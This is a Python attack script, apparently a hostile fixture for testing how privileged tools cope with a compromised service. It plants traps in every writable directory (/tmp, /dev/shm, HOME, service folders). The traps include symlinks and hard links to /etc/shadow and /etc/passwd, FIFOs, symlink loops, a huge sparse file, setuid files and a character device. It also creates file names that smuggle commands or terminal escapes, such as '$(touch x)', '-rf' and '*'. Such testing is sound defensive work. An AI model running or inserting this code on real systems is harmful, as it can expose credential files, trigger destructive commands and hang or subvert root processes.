"""Put what could stop or mislead root into every folder that a program can write.

Run in the program with the hole: for somebody who reads, walks, counts, copies or removes what
lies there.
"""

import contextlib
import glob
import os
import socket
import stat

NAMES = [
    "tmp",
    "current",
    "status",
    "8000.sock",
    "lock",
    "pid",
    "settings.json",
    "pip.conf",
    ".netrc",
]


def plant(folder):
    """One of each kind, once. Not all can be made everywhere."""
    if os.path.lexists(f"{folder}/loop"):
        return
    for place, name in enumerate(NAMES):
        path = f"{folder}/{name}"
        with contextlib.suppress(OSError):
            if os.path.lexists(path):
                os.rename(path, path + ".old")
            if place % 3 == 0:
                os.mkfifo(path)
            elif place % 3 == 1:
                os.symlink("/srv/victim", path)
            else:
                os.symlink(path, path)
    with contextlib.suppress(OSError):
        os.symlink("/etc/shadow", f"{folder}/link-to-a-file")
    for source in ("/etc/passwd", "/etc/shadow", "/srv/hostile/current/server.py", "/srv/victim/private"):
        with contextlib.suppress(OSError):
            os.link(source, f"{folder}/hard-link-{os.path.basename(source)}")
    with contextlib.suppress(OSError), open(f"{folder}/sparse", "wb") as file:
        file.truncate(2**40)
    with contextlib.suppress(OSError):
        for name in ("a\nb", "\x1b]0;owned\x07\x1b[2J", "-rf", "*", "$(touch x)", "\udcff\udcfe"):
            open(f"{folder}/{name}", "w").close()
    with contextlib.suppress(OSError):
        os.mkdir(f"{folder}/loop")
        os.symlink(".", f"{folder}/loop/v1")
        os.symlink(".", f"{folder}/loop/v2")
    with contextlib.suppress(OSError):
        os.mkdir(f"{folder}/closed")
        open(f"{folder}/closed/file", "w").close()
        os.chmod(f"{folder}/closed", 0)
    for mode in (0o4777, 0o2777):
        with contextlib.suppress(OSError):
            path = f"{folder}/set-{mode:o}"
            open(path, "w").close()
            os.chmod(path, mode)
    with contextlib.suppress(OSError):
        device = f"{folder}/device"
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 1))
    with contextlib.suppress(OSError):
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        listener.bind(f"{folder}/deaf.sock")
        listener.listen(1)
    # Deeper than any path may be long.
    here = os.open(folder, os.O_RDONLY)
    with contextlib.suppress(OSError):
        for _level in range(50):
            os.mkdir("d" * 100, dir_fd=here)
            below = os.open("d" * 100, os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = below
    os.close(here)


for path in {
    *glob.glob("/var/*/tornado-hostile"),
    "/tmp",
    "/dev/shm",
    "/run/tornado-hostile",
    os.environ["HOME"],
}:
    if os.path.isdir(path) and os.access(path, os.W_OK):
        plant(path)
